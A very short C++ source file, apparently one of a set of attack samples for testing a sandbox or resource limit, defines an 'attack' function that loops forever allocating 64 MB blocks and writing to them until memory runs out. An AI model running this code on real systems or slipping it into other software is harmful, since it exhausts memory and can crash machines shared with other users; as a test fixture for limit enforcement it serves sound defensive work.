// Fills memory.
#include "attack.h"

void attack() {
  for (;;) {
    const std::size_t size = 64 << 20;
    std::memset(new char[size], 1, size);
  }
}
